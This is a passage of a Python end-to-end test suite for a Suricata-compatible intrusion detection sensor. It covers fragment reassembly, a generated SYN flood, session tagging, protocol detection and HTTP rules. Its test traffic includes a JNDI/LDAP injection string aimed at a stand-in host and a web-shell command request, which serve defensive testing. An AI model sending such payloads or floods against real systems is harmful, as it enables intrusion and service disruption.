        'alert tcp any any -> any any (msg:"secret early"; content:"secret"; stream_size:client,<,100; sid:5;)',
        'alert tcp any any -> any any (msg:"any session"; stream_size:either,<,100000; sid:6;)',
    ]) + "\n"
    alerts, _ = env.replay([env.path("ss.pcap")], rules)
    # Sid 1 at the client packets from 6 on (121, 131; the FINs do not lower it). Sid 2 once the
    # server passed 50 too (7 on). Sid 3 on server packets once either side reached 111 (the
    # client at 6): 7 and 10. Sid 4 while the server stream is below 5: the SYN (server ISN
    # unknown: 0), the ACK and the first data packet. Sid 5: "secret" at 4 (61) but not at 8
    # (131). Sid 6 on the session's eleven packets, not on packet 12 (no session).
    check(over == 6, "packet numbers")
    expected = sorted([(n, 1) for n in (6, 8, 9, 11)] + [(n, 2) for n in (7, 8, 9, 10, 11)] +
                      [(7, 3), (10, 3), (1, 4), (3, 4), (4, 4), (4, 5)] + [(n, 6) for n in range(1, 12)])
    expect_alerts(sorted(alerts, key=lambda a: (a["pcap_cnt"], a["alert"]["signature_id"])), expected)


@case
def ipv6_fragments_every_order(env):
    """An IPv6 TCP segment cut into three fragments alerts once whatever order the fragments come
    in (all six), at the fragment that completes the datagram; so does an IPv4 one in tiny
    8-byte fragments that split the TCP header itself."""
    import itertools
    from scapy.all import IPv6ExtHdrFragment, fragment6  # noqa: E402
    cap = Capture()
    done = []
    for ident, order in enumerate(itertools.permutations(range(3))):
        packet = pcapgen.IPv6(src="fd00::1", dst="fd00::2") / IPv6ExtHdrFragment(id=1000 + ident) / TCP(
            sport=41000 + ident, dport=8080, flags="PA", seq=1, ack=1) / Raw(b"q" * 20 + b"V6-FRAG-SIGNATURE" + b"z" * 20)
        frags = fragment6(packet, 80)
        check(len(frags) == 3, f"three fragments, got {len(frags)}")
        for i in order:
            n = cap.add(pcapgen.ether() / frags[i])
        done.append(n)
    from scapy.all import fragment  # noqa: E402
    tiny = fragment(IP(src="10.0.0.1", dst="10.0.0.2", id=321) / TCP(sport=42000, dport=8080, flags="PA", seq=1,
                                                                      ack=1) / Raw(b"V6-FRAG-SIGNATURE"), fragsize=8)
    check(len(tiny) == 5, f"five tiny fragments, got {len(tiny)}")
    for frame in reversed(tiny):
        n = cap.add(pcapgen.ether() / frame)
    done.append(n)
    cap.write(env.path("v6frag.pcap"))
    rules = 'alert tcp any any -> any 8080 (msg:"split"; content:"V6-FRAG-SIGNATURE"; sid:1;)\n'
    alerts, stats = env.replay([env.path("v6frag.pcap")], rules)
    expect_alerts(alerts, [(n, 1) for n in done])
    check(stats["defrag"]["ipv6"]["reassembled"] == 6, f"defrag {stats['defrag']}")
    check(stats["defrag"]["ipv4"]["reassembled"] == 1, f"defrag {stats['defrag']}")


@case
def half_open_flood_memory_bounded(env):
    """A million SYNs from distinct sources (half-open flows): the flow table and the session
    pool stay within their memcaps (evictions and pool exhaustion are counted), peak memory stays
    bounded, and an attack inside the flood is still detected."""
    import struct
    path = env.path("flood.pcap")
    count = 1_000_000
    with open(path, "wb") as f:
        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
        frame = bytearray(bytes(ether() / IP(src="10.1.0.0", dst="10.0.0.2", ttl=64) /
                                TCP(sport=1024, dport=80, flags="S", seq=7)))
        for i in range(count):
            # Source 10.(1 + i / 65536).(i / 256 % 256).(i % 256); the checksums go stale (counted,
            # never enforced, as on a mirror port with offloading).
            frame[26:30] = bytes((10, 1 + (i >> 16), (i >> 8) & 0xFF, i & 0xFF))
            frame[34:36] = struct.pack(">H", 1024 + (i % 60000))
            ts = 1795165200 + i // 100000
            f.write(struct.pack("<IIII", ts, (i % 100000) * 10, len(frame), len(frame)))
            f.write(frame)
    cap = Capture(start=1795165200 + count // 100000 + 1)
    s = TcpSession(cap, "10.0.0.9", "10.0.0.2", 40000, 80)
    s.handshake()
    attack = s.send(b"GET /${jndi:ldap://evil/a} HTTP/1.1\r\n\r\n")
    cap.write(env.path("attack.pcap"))
    rules = 'alert tcp any any -> any 80 (msg:"jndi"; flow:established,to_server; content:"${jndi:"; sid:1;)\n'
    out = env.path("out")
    os.makedirs(out, exist_ok=True)
    rules_file = env.write("flood.rules", rules)

    def flood_run():
        for name in ("eve.json", "fast.log", "stats.log"):
            if os.path.exists(os.path.join(out, name)):
                os.remove(os.path.join(out, name))
        result = subprocess.run(["/usr/bin/time", "-f", "%M %R", env.binary, "-q", "-r", path, "-r",
                                 env.path("attack.pcap"), "-S", rules_file, "-l", out,
                                 "--set", "flow.memcap=64mb", "--set", "stream.memcap=32mb"],
                                capture_output=True, text=True, timeout=300)
        check(result.returncode == 0, f"exit {result.returncode}: {result.stderr[-2000:]}")
        peak, faults = result.stderr.strip().splitlines()[-1].split()
        return int(peak), int(faults)

    peak_kb, faults = flood_run()
    # 64 MB of flows + 32 MB of sessions + rules and buffers: well under 400 MB (ASan's shadow
    # memory and quarantine roughly triple that). Twice in ~40 runs on a busy machine the peak
    # read 2-4 GB and could not be reproduced (every other run: 108 MB, the same page-fault
    # count each time); a second run tells a glitch from a leak, and both figures are printed.
    limit_mb = 1200 if env.sanitized else 400
    if peak_kb >= limit_mb * 1024:
        first = (peak_kb, faults)
        peak_kb, faults = flood_run()
        print(f"  note: flood peak RSS {first[0]} KB ({first[1]} minor faults), again {peak_kb} KB ({faults})")
    records = [json.loads(line) for line in open(os.path.join(out, "eve.json"))]
    alerts = [r for r in records if r["event_type"] == "alert"]
    stats = [r for r in records if r["event_type"] == "stats"][-1]["stats"]
    expect_alerts(alerts, [(count + attack, 1)])
    check(stats["decoder"]["pkts"] == count + 4, f"every packet decoded: {stats['decoder']['pkts']}")
    check(stats["flow"]["get_used"] > 0 or stats["flow"].get("emerg_mode_entered", 0) > 0,
          f"the flow table evicted under the flood: {stats['flow']}")
    check(stats["tcp"]["syn"] == count + 1, f"tcp {stats['tcp']}")
    check(peak_kb < limit_mb * 1024, f"peak RSS {peak_kb} KB (limit {limit_mb} MB)")
    env.validate(os.path.join(out, "eve.json"))


@case
def tag_session_tagged_packets(env):
    """tag:session: after the alert, the next packets of the session (both directions, the ACKs
    too) give "Tagged Packet" alerts, gid 2 sid 1 rev 1, severity 2, no category (Suricata's
    pseudo-signature). Suricata counts the alerting packet against the tag without tagging it
    (detect-engine-tag.c): `tag:session,3,packets` tags 2 packets, `4,packets` tags 3."""
    cap = Capture()
    a = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40000, 80)
    a.handshake()
    alert_a = a.send(b"attack-one")
    tagged_a = [a.send(b"data1"), a.send(b"reply", to_server=False)]
    after_a = a.send(b"data2")
    a.close()
    b = TcpSession(cap, "10.0.0.3", "10.0.0.4", 40001, 8080)
    b.handshake()
    alert_b = b.send(b"attack-two")
    tagged_b = [b.send(b"data1"), b.send(b"reply", to_server=False), b.send(b"data2")]
    after_b = b.send(b"data3")
    cap.write(env.path("tag.pcap"))
    rules = """
alert tcp any any -> any any (msg:"one"; content:"attack-one"; tag:session,3,packets; sid:1;)
alert tcp any any -> any any (msg:"two"; content:"attack-two"; tag:session,4,packets; sid:2;)
"""
    alerts, stats = env.replay([env.path("tag.pcap")], rules)
    expected = sorted([(alert_a, 1), (alert_b, 2)] + [(n, 1) for n in tagged_a + tagged_b])
    expect_alerts(sorted(alerts, key=lambda r: (r["pcap_cnt"], r["alert"]["signature_id"])), expected)
    check(after_a not in [r["pcap_cnt"] for r in alerts] and after_b not in [r["pcap_cnt"] for r in alerts],
          "the tags end after their count")
    tagged = [r for r in alerts if r["alert"]["gid"] == 2]
    check(len(tagged) == 5, f"five tagged packets, got {len(tagged)}")
    for record in tagged:
        check(record["alert"]["signature_id"] == 1 and record["alert"]["rev"] == 1, record["alert"])
        check(record["alert"]["signature"] == "Tagged Packet", record["alert"])
        check(record["alert"]["severity"] == 2 and record["alert"]["category"] == "", record["alert"])
    by_cnt = {r["pcap_cnt"]: r for r in alerts}
    check(by_cnt[tagged_a[0]]["flow_id"] == by_cnt[alert_a]["flow_id"], "a tagged packet has its session's flow_id")
    check(by_cnt[tagged_a[1]]["src_ip"] == "10.0.0.2", "the server's reply is tagged too")
    check(stats["detect"]["alert"] == 7, f"stats.detect.alert counts every alert record: {stats['detect']}")
    fast = open(env.path("out/fast.log")).read()
    check(fast.count("[2:1:1] Tagged Packet [**]") == 5, f"fast.log:\n{fast}")
    log = open(env.path("out/stats.log")).read()
    check(any(line.startswith("detect.tagged_packets") and line.split()[-1] == "5" for line in log.splitlines()),
          "stats.log counts the tagged packets")


@case
def app_layer_protocol_detection(env):
    """Protocols detected by content, not port (Suricata's probing parsers): HTTP on 8080, TLS on
    4443, SSH on 2222, DNS on UDP 53, and a TCP flow of neither side's known protocol ("failed").
    app_proto is in the alert records (set before detection, as Suricata's app-layer runs first)
    and the flow records; stats.app_layer counts flows per protocol and HTTP transactions."""
    cap = Capture()
    http = TcpSession(cap, "10.0.1.1", "10.0.1.2", 40000, 8080)
    http.handshake()
    http.send(b"GET /secret-path HTTP/1.1\r\nHost: Example.COM\r\nUser-Agent: e2e\r\n\r\n")
    http.send(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", to_server=False)
    http.close()
    tls = TcpSession(cap, "10.0.1.1", "10.0.1.3", 40001, 4443)
    tls.handshake()
    # A TLS 1.2 record (0x16 0x03 0x01), handshake type 1 (ClientHello), then type 2 back.
    tls.send(bytes([0x16, 0x03, 0x01, 0x00, 0x2a, 0x01, 0x00, 0x00, 0x26, 0x03, 0x03]) + bytes(38))
    tls.send(bytes([0x16, 0x03, 0x03, 0x00, 0x2a, 0x02, 0x00, 0x00, 0x26, 0x03, 0x03]) + bytes(38), to_server=False)
    tls.close()
    ssh = TcpSession(cap, "10.0.1.1", "10.0.1.4", 40002, 2222)
    ssh.handshake()
    ssh.send(b"SSH-2.0-OpenSSH_9.2p1 Debian\r\n", to_server=False)
    ssh.send(b"SSH-2.0-PuTTY_Release_0.78\r\n")
    ssh.close()
    odd = TcpSession(cap, "10.0.1.1", "10.0.1.5", 40003, 7000)
    odd.handshake()
    odd.send(b"\x01\x02 nothing anyone knows " * 60)
    odd.send(b"\x03\x04 and nothing back either " * 60, to_server=False)
    odd.close()
    dns_query = bytes([0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, 7]) + b"example" + bytes([3]) + b"com" \
        + bytes([0, 0, 1, 0, 1])
    udp_packet(cap, "10.0.1.1", "10.0.1.53", 5353, 53, dns_query)
    cap.write(env.path("al.pcap"))
    rules = ('alert tcp any any -> any any (msg:"http"; content:"secret-path"; sid:1;)\n'
             'alert tcp any any -> any any (msg:"ssh"; content:"SSH-2.0-OpenSSH"; sid:2;)\n')
    alerts, stats = env.replay([env.path("al.pcap")], rules, "--set", "outputs.eve.flow=yes")
    by_sid = {a["alert"]["signature_id"]: a for a in alerts}
    check(sorted(by_sid) == [1, 2], f"alerts {sorted(by_sid)}")
    check(by_sid[1].get("app_proto") == "http", by_sid[1])
    check(by_sid[2].get("app_proto") == "ssh", by_sid[2])
    # Suricata's alert `http` object: the transaction's request facts (no response yet at that
    # packet), the host normalized (lower case).
    http_facts = by_sid[1].get("http", {})
    check(http_facts.get("hostname") == "example.com" and http_facts.get("url") == "/secret-path", http_facts)
    check(http_facts.get("http_method") == "GET" and http_facts.get("protocol") == "HTTP/1.1", http_facts)
    check(http_facts.get("http_user_agent") == "e2e" and "status" not in http_facts, http_facts)
    check("http" not in by_sid[2], "no http object on an SSH flow")
    records = [json.loads(line) for line in open(env.path("out/eve.json"))]
    protos = {r["dest_port"]: r.get("app_proto") for r in records if r["event_type"] == "flow"}
    expected = {8080: "http", 4443: "tls", 2222: "ssh", 7000: "failed", 53: "dns"}
    check(protos == expected, f"flow app_proto by port:\n  got      {protos}\n  expected {expected}")
    app = stats["app_layer"]
    check(app["flow"]["http"] == 1 and app["flow"]["tls"] == 1 and app["flow"]["ssh"] == 1, app)
    check(app["flow"]["dns_udp"] == 1 and app["flow"]["dns_tcp"] == 0, app)
    check(app["tx"]["http"] == 1, app)
    check(app["error"]["http"]["gap"] == 0 and app["error"]["http"]["alloc"] == 0, app)
    stats_log = open(env.path("out/stats.log")).read()
    check("app_layer.flow.failed_tcp" in stats_log, "Eastwatch-only app-layer counters in stats.log")


@case
def tag_host_other_flows(env):
    """tag:host,3,packets,src: the alerting packet's source is tagged in every flow, either
    direction; the alert counts as the first of the 3 packets (Suricata), so 2 are tagged."""
    cap = Capture()
    a = TcpSession(cap, "10.0.0.5", "10.0.0.1", 40000, 80)
    a.handshake()
    alert = a.send(b"attack")
    from_host = udp_packet(cap, "10.0.0.5", "10.0.0.9", 5000, 53, b"q1")
    udp_packet(cap, "10.0.0.7", "10.0.0.8", 5000, 53, b"q2")  # neither side is the tagged host
    udp_packet(cap, "10.0.0.1", "10.0.0.9", 5001, 53, b"q3")  # the alert's destination: not tagged
    to_host = udp_packet(cap, "10.0.0.8", "10.0.0.5", 53, 5000, b"r1")
    udp_packet(cap, "10.0.0.5", "10.0.0.9", 5000, 53, b"q4")  # the 4th packet of the host: ended
    cap.write(env.path("host.pcap"))
    rules = 'alert tcp any any -> any any (msg:"x"; content:"attack"; tag:host,3,packets,src; sid:7;)\n'
    alerts, _ = env.replay([env.path("host.pcap")], rules)
    got = [(r["pcap_cnt"], r["alert"]["gid"], r["alert"]["signature_id"]) for r in alerts]
    check(got == [(alert, 1, 7), (from_host, 2, 1), (to_host, 2, 1)], f"alerts (pcap_cnt, gid, sid): {got}")


@case
def workers_same_alerts(env):
    """--workers N spreads frames over N worker threads by a symmetric flow hash (fragments by
    src, dst and IP id): offline, 1, 2 and 4 workers give the same (pcap_cnt, sid) set on the
    demo capture and on a generated capture of many TCP sessions, fragmented UDP datagrams sent
    out of order and ICMP echoes; stats are the sum over the workers."""
    from scapy.all import UDP, fragment  # noqa: E402

    def run(pcap, rules_text, workers):
        shutil.rmtree(env.path("out"), ignore_errors=True)  # eve.json is appended to
        alerts, stats = env.replay([pcap], rules_text, "--workers", str(workers))
        return sorted(sids_by_packet(alerts)), stats

    demo = os.path.join(env.source, "tests", "pcaps", "guest-to-guest-attack.pcap")
    bundled = open(os.path.join(env.source, "signatures", "rules", "eastwatch.rules")).read()
    base, _ = run(demo, bundled, 1)
    check(len(base) == 18, f"the demo's 18 alerts with one worker: {base}")
    for workers in (2, 4):
        got, stats = run(demo, bundled, workers)
        check(got == base, f"demo, {workers} workers:\n  got      {got}\n  expected {base}")
        check(stats["decoder"]["pkts"] == 107 and stats["detect"]["alert"] == 18, f"summed stats {stats['decoder']}")

    cap = Capture()
    expected = []
    sessions = [pcapgen.TcpSession(cap, f"10.30.{i // 8}.{10 + i % 8}", f"10.31.0.{1 + i % 5}", 40000 + i, 8000 + i % 3)
                for i in range(24)]
    for s in sessions:  # interleaved: every handshake, then every request, then every close
        s.handshake()
    datagrams = []
    for i, s in enumerate(sessions):
        expected.append((s.send(b"GET /x HTTP/1.0\r\nX-Marker: WORKER-MARK-%02d\r\n\r\n" % i), 1))
        if i % 4 == 0:  # a fragmented UDP datagram between the same hosts, last fragment first
            udp = IP(src=s.client, dst=s.server, id=1000 + i) / UDP(sport=5000 + i, dport=6000) / Raw(
                b"A" * 30 + b"FRAGMENTED-SIGNATURE" + b"B" * 30)
            frames = [pcapgen.ether() / f for f in fragment(udp, fragsize=24)]
            for frame in reversed(frames):
                n = cap.add(frame)
                if frame[IP].flags.MF:
                    expected.append((n, 3))
            expected.append((n, 2))  # the first fragment, added last, completes the datagram
        if i % 6 == 0:
            expected.append((pcapgen.icmp_echo(cap, s.client, s.server, i, 1), 4))
            expected.append((len(cap.packets), 4))  # the reply
        expected.append((s.send(b"HTTP/1.0 200 OK\r\n\r\nreply-to-the-marker", to_server=False), 5))
    for s in sessions:
        s.close()
    cap.write(env.path("workers.pcap"))
    rules = """
alert tcp any any -> any any (msg:"marker to server"; flow:established,to_server; content:"WORKER-MARK-"; sid:1;)
alert udp any any -> any 6000 (msg:"signature across fragments"; content:"FRAGMENTED-SIGNATURE"; sid:2;)
alert ip any any -> any any (msg:"a fragment with MF"; fragbits:M; sid:3;)
alert icmp any any -> any any (msg:"echo payload"; content:"abcdefghijklmnop"; sid:4;)
alert tcp any any -> any any (msg:"reply to client"; flow:established,to_client; content:"reply-to-the-marker"; sid:5;)
"""
    expected.sort()
    for workers in (1, 2, 4):
        got, stats = run(env.path("workers.pcap"), rules, workers)
        check(got == expected, f"generated capture, {workers} workers:\n  got      {got}\n  expected {expected}")
        check(stats["decoder"]["pkts"] == len(cap.packets), f"decoder.pkts summed over workers: {stats['decoder']}")
        check(stats["defrag"]["ipv4"]["reassembled"] == 6, f"defrag stats summed: {stats['defrag']}")
        check(stats["tcp"]["sessions"] == 24, f"tcp.sessions summed: {stats['tcp']}")
    stats_log = open(env.path("out/stats.log")).read()
    check("capture.ring-drops" in stats_log, "the dispatch counters are in stats.log")
    # Flow ids stay unique across workers (each numbers its flows in its own range).
    shutil.rmtree(env.path("out"), ignore_errors=True)
    env.replay([env.path("workers.pcap")], rules, "--workers", "4", "--set", "outputs.eve.flow=yes")
    flow_ids = [json.loads(line)["flow_id"] for line in open(env.path("out/eve.json"))
                if json.loads(line)["event_type"] == "flow"]
    check(len(flow_ids) >= 24 and len(set(flow_ids)) == len(flow_ids), f"flow ids unique: {sorted(flow_ids)}")

    # Nothing to read, an interface that does not exist: exit 2 with libpcap's reason.
    result = env.run("-S", env.path("test.rules"), "-l", env.path("out"), expect_rc=2)
    check("nothing to do" in result.stderr, result.stderr)
    result = env.run("-q", "-i", "ew-missing0", "-S", env.path("test.rules"), "-l", env.path("out"), expect_rc=2)
    check(result.stderr.startswith("eastwatch: cannot open interface 'ew-missing0': ") and
          len(result.stderr.strip()) > len("eastwatch: cannot open interface 'ew-missing0': "), result.stderr)
    result = env.run("-r", env.path("workers.pcap"), "-i", "lo", "-l", env.path("out"), expect_rc=2)
    check("not both" in result.stderr, result.stderr)


@case
def app_layer_rule_conditions(env):
    """Rules on application-layer protocols: `alert http` matches a flow detected as HTTP on
    any port (here 8081) and not the same bytes in a flow that is not HTTP; `alert tls` does
    not match HTTP; Snort 3 `service:http` with a port-80 header matches the HTTP flow on 8081;
    app-layer-protocol:!http matches only the other flow."""
    cap = Capture()
    h = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40000, 8081)
    h.handshake()
    http_packet = h.send(b"GET /a?x=evil-marker HTTP/1.1\r\nHost: db-01\r\n\r\n")
    o = TcpSession(cap, "10.0.0.1", "10.0.0.3", 40001, 9000)
    o.handshake()
    other_packet = o.send(b"\x00\x01binary evil-marker\x02")
    cap.write(env.path("app.pcap"))
    rules = "\n".join([
        'alert http any any -> any any (msg:"http flow"; flow:to_server; content:"evil-marker"; sid:1;)',
        'alert tls any any -> any any (msg:"tls flow"; content:"evil-marker"; sid:2;)',
        'alert tcp any any -> any 80 (msg:"snort3 service http"; service:http; content:"evil-marker"; sid:3;)',
        'alert tcp any any -> any any (msg:"not http"; app-layer-protocol:!http; content:"evil-marker"; sid:4;)',
    ]) + "\n"
    alerts, _ = env.replay([env.path("app.pcap")], rules)
    expect_alerts(sorted(alerts, key=lambda a: (a["pcap_cnt"], a["alert"]["signature_id"])),
                  [(http_packet, 1), (http_packet, 3), (other_packet, 4)])
    check(all(a.get("app_proto") == "http" for a in alerts if a["pcap_cnt"] == http_packet), "app_proto http")


@case
def http_sticky_buffers(env):
    """Rules on HTTP sticky buffers, Snort 2 content modifiers, uricontent, urilen and pcre's HTTP
    flags, each on the transaction and the packet where Suricata would see its buffer: request
    buffers on the request's packet, response buffers on the response's; a rule on request and
    response buffers alerts on the response of the request that matched; pipelined requests are
    separate transactions (tx_id) and a rule alerts once on each; a request split over segments
    alerts where its header block ends; a body rule where the body arrives."""
    cap = Capture()
    s = TcpSession(cap, "10.20.0.11", "10.20.0.12", 40000, 8080)
    s.handshake()
    a = s.send(b"GET /Admin/../shell.php?cmd=id HTTP/1.1\r\nHost: WEB-01.local:8080\r\n"
               b"User-Agent: Evil-Agent/1.0\r\nCookie: session=abc\r\n\r\n")
    b = s.send(b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: 12\r\n\r\n"
               b"uid=0(root)\n", to_server=False)
    c = s.send(b"GET /one HTTP/1.1\r\nHost: a\r\n\r\nGET /two HTTP/1.1\r\nHost: a\r\n\r\n")
    s.close()
    t = TcpSession(cap, "10.20.0.11", "10.20.0.12", 40001, 80)
    t.handshake()
    t.send(b"GET /spl")
    d = t.send(b"it-path HTTP/1.1\r\nHost: x\r\n\r\n")
    t.close()
    u = TcpSession(cap, "10.20.0.11", "10.20.0.12", 40002, 80)
    u.handshake()
    u.send(b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 17\r\n\r\n")
    e = u.send(b"user=a&password=b")
    u.close()
    # A response whose body comes in three pieces; the content is in the second and the third.
    v = TcpSession(cap, "10.20.0.11", "10.20.0.12", 40003, 80)
    v.handshake()
    v.send(b"GET /dl HTTP/1.1\r\nHost: x\r\n\r\n")
    v.send(b"HTTP/1.1 200 OK\r\nContent-Length: 35\r\n\r\n0123456789", to_server=False)
    f = v.send(b"MALWARE!!MALWARE!!", to_server=False)
    v.send(b"MALWARE", to_server=False)
    v.close()
    cap.write(env.path("http.pcap"))
    rules = "\n".join([
        'alert http any any -> any any (msg:"uri"; http.uri; content:"/shell.php"; startswith; sid:1;)',
        'alert http any any -> any any (msg:"raw uri"; http.uri.raw; content:"/Admin/../"; sid:2;)',
        'alert http any any -> any any (msg:"method"; http.method; content:"GET"; bsize:3; http.uri; content:"shell"; sid:3;)',
        'alert http any any -> any any (msg:"host"; http.host; content:"web-01.local"; bsize:12; sid:4;)',
        'alert http any any -> any any (msg:"ua"; http.user_agent; content:"evil-agent"; nocase; sid:5;)',
        'alert http any any -> any any (msg:"status+server"; http.stat_code; content:"200"; http.server; content:"nginx"; sid:6;)',
        'alert http any any -> any any (msg:"request and response"; http.uri; content:"cmd=id"; http.stat_code; content:"200"; file.data; content:"uid=0"; sid:7;)',
        'alert http any any -> any any (msg:"not there"; http.uri; content:"/nothing"; sid:8;)',
        'alert http any any -> any any (msg:"file data"; flow:to_client; file.data; content:"root"; sid:9;)',
        'alert http any any -> any any (msg:"header"; http.header; content:"Cookie|3a 20|session=abc"; sid:10;)',
        'alert http any any -> any any (msg:"transform"; http.uri.raw; to_lowercase; content:"/admin/"; sid:11;)',
        'alert http any any -> any any (msg:"urilen"; urilen:17; sid:12;)',
        'alert tcp any any -> any any (msg:"snort2 modifiers"; content:"GET"; http_method; content:"shell"; http_uri; sid:13;)',
        'alert tcp any any -> any any (msg:"uricontent"; uricontent:"cmd=id"; sid:14;)',
        'alert http any any -> any any (msg:"pcre U"; pcre:"/cmd=[a-z]+$/U"; sid:15;)',
        'alert http any any -> any any (msg:"pipelined"; http.uri; content:"/two"; sid:16;)',
        'alert http any any -> any any (msg:"each tx"; http.uri; content:"/"; startswith; http.host; content:"a"; bsize:1; sid:17;)',
        'alert http any any -> any any (msg:"split"; http.uri; content:"/split-path"; sid:18;)',
        'alert http any any -> any any (msg:"body"; http.method; content:"POST"; http.request_body; content:"password="; sid:19;)',
        'alert http any any -> any any (msg:"body negative"; http.method; content:"POST"; http.request_body; content:"secret"; sid:20;)',
        'alert http any any -> any any (msg:"status, later piece"; http.stat_code; content:"200"; file.data; content:"MALWARE"; sid:21;)',
        'alert http any any -> any any (msg:"status mismatch"; http.stat_code; content:"404"; file.data; content:"MALWARE"; sid:22;)',
    ]) + "\n"
    alerts, _ = env.replay([env.path("http.pcap")], rules)
    got = sorted(alerts, key=lambda x: (x["pcap_cnt"], x["alert"]["signature_id"], x.get("tx_id", -1)))
    expected = [(a, 1), (a, 2), (a, 3), (a, 4), (a, 5), (a, 10), (a, 11), (a, 12), (a, 13), (a, 14), (a, 15),
                (b, 6), (b, 7), (b, 9), (c, 16), (c, 17), (c, 17), (d, 18), (e, 19), (f, 21)]
    expect_alerts(got, expected)
    tx = [(x["alert"]["signature_id"], x.get("tx_id")) for x in got]
    check(tx.count((17, 1)) == 1 and tx.count((17, 2)) == 1 and (16, 2) in tx, f"pipelined tx ids: {tx}")
    check((1, 0) in tx and (7, 0) in tx and (19, 0) in tx, f"tx ids: {tx}")
    check(all(x.get("app_proto") == "http" and "http" in x for x in got), "every alert has app_proto and http")
    # With the application layer off (bench/ measures its cost so), no flow is parsed: no alerts.
    os.remove(env.path("out/eve.json"))
    off, stats = env.replay([env.path("http.pcap")], rules, "--set", "app-layer.enabled=no")
    check(off == [] and stats["app_layer"]["tx"]["http"] == 0, f"app layer off: {len(off)} alerts")


# --- VM inventory (sensor/inventory, sensor/vmdetect) ---------------------------------------

DEMO_INVENTORY = os.path.join(HERE, "inventory", "demo-inventory.yaml")
WEB_MAC, DB_MAC, APP_MAC = "00:50:56:00:00:11", "00:50:56:00:00:12", "00:50:56:00:00:13"


def vm_of(alert):
    vm = alert.get("vm")
    if vm is None:
        return None
    side = lambda s: (s["name"], s["zone"], s["host"]) if s else None  # noqa: E731
    return side(vm.get("src")), side(vm.get("dest")), vm["same_host"], vm["scope"]


@case
def inventory_enriches_demo_alerts(env):
    """The demo with its inventory (policy default allow: no gid 9000 alert): the same 18 alerts,
    each naming both VMs (by MAC, so the IPv6 flow too) with zone and host; web-01 and db-01 share
    esx-01 (intra-host), app-01 runs on esx-02 (inter-host); `src` follows the alert's src_ip."""
    pcap = os.path.join(env.source, "tests", "pcaps", "guest-to-guest-attack.pcap")
    rules = open(os.path.join(env.source, "signatures", "rules", "eastwatch.rules")).read()
    alerts, stats = env.replay([pcap], rules, "--set", f"inventory.file={DEMO_INVENTORY}")
    check(len(alerts) == 18 and stats["detect"]["alert"] == 18, f"{len(alerts)} alerts")
    web, db, app = ("web-01", "dmz", "esx-01"), ("db-01", "db", "esx-01"), ("app-01", "app", "esx-02")
    by_sid = {a["alert"]["signature_id"]: a for a in alerts}
    check(vm_of(by_sid[9000006]) == (web, db, True, "intra-host"), f"web -> db: {by_sid[9000006].get('vm')}")
    check(vm_of(by_sid[9000001]) == (web, app, False, "inter-host"), f"web -> app: {by_sid[9000001].get('vm')}")
    check(vm_of(by_sid[9000005]) == (app, web, False, "inter-host"), "the leak travels app -> web")
    check(vm_of(by_sid[9000023]) == (web, app, False, "inter-host"), "IPv6 flow resolved too")
    check(by_sid[9000001]["vm"]["src"]["tenant"] == "shop", "tenant of web-01")
    check("tenant" not in by_sid[9000001]["vm"]["dest"], "app-01 has no tenant")
    check(all("vm" in a for a in alerts), "every alert between guests carries vm")
    check(by_sid[9000001]["host"] == by_sid[9000006]["host"], "host is the sensor's name on every record")
    stats_log = open(env.path("out/stats.log")).read()
    check("inventory.vms" in stats_log, "inventory counters in stats.log")


@case
def mirror_encapsulations_name_vms(env):
    """The demo's guest-to-guest attack mirrored through each encapsulation (ERSPAN I/II/III, GRE,
    VXLAN, Geneve, RSPAN) with its inventory: every alert names both VMs with their zones and
    hosts, exactly as in the plain capture (the same `vm` object: tenant, same_host, scope), and
    carries its encapsulation's `mirror` object (ERSPAN session, VNI, RSPAN VLAN, sensor_src).
    The outer Ethernet header carries app-01's and db-01's MACs: a side taken from it instead
    of the mirrored frame would name the wrong VM, and sid 2 would see app-01's MAC sending from
    the host's address. No gid 9000 alert (each capture is one segment per MAC; policy allow)."""
    from scapy.all import rdpcap, wrpcap  # noqa: E402
    demo = os.path.join(env.source, "tests", "pcaps", "guest-to-guest-attack.pcap")
    rules = open(os.path.join(env.source, "signatures", "rules", "eastwatch.rules")).read()
    frames = rdpcap(demo)
    inventory = ["--set", f"inventory.file={DEMO_INVENTORY}"]

    def facts(alerts):
        return [(a["pcap_cnt"], a["alert"]["gid"], a["alert"]["signature_id"], a["src_ip"], a["dest_ip"],
                 json.dumps(a.get("vm"), sort_keys=True)) for a in alerts]

    plain, _ = env.replay([demo], rules, *inventory)
    check(len(plain) == 18 and all("vm" in a for a in plain), f"the demo's 18 alerts, each with vm: {facts(plain)}")
    web, db, app = ("web-01", "dmz", "esx-01"), ("db-01", "db", "esx-01"), ("app-01", "app", "esx-02")
    check({vm_of(a)[:2] for a in plain} == {(web, db), (db, web), (web, app), (app, web)}, f"{[vm_of(a) for a in plain]}")
    outer_macs = bytes.fromhex("005056000012") + bytes.fromhex("005056000013")  # dst db-01, src app-01
    settings = ["--set", "decoder.erspan.typeI.enabled=true", "--set", "decoder.rspan.vlans=[999]", *inventory]
    for encap, expected_mirror in MIRROR_OBJECTS.items():
        mirrored = []
        for n, frame in enumerate(frames, 1):
            m = mirror_frame(encap, frame, n)
            if encap != "rspan":  # RSPAN has no outer Ethernet header: the tag is in the frame's own
                m = pcapgen.Ether(outer_macs + bytes(m)[12:])
                m.time = frame.time
            mirrored.append(m)
        pcap = env.path(f"{encap}-vm.pcap")
        wrpcap(pcap, mirrored)
        shutil.rmtree(env.path("out"), ignore_errors=True)
        alerts, stats = env.replay([pcap], rules, *settings)
        check(facts(alerts) == facts(plain), f"{encap}:\n  got      {facts(alerts)}\n  expected {facts(plain)}")
        for alert in alerts:
            expected = dict(expected_mirror)
            if encap == "erspan3" and alert.get("vlan"):
                expected["vlan"] = alert["vlan"][0]
            check(alert.get("mirror") == expected, f"{encap} sid {alert['alert']['signature_id']}: "
                                                    f"mirror {alert.get('mirror')}, expected {expected}")
        check(stats["decoder"]["invalid"] == 0, f"{encap}: decoder stats {stats['decoder']}")


def vm_capture(env):
    """web-01 (dmz) and db-01 (db) flows, an external client, and a guest reaching vCenter."""
    cap = Capture()
    flows = {}
    for name, (client, server, cmac, smac, cport, sport) in {
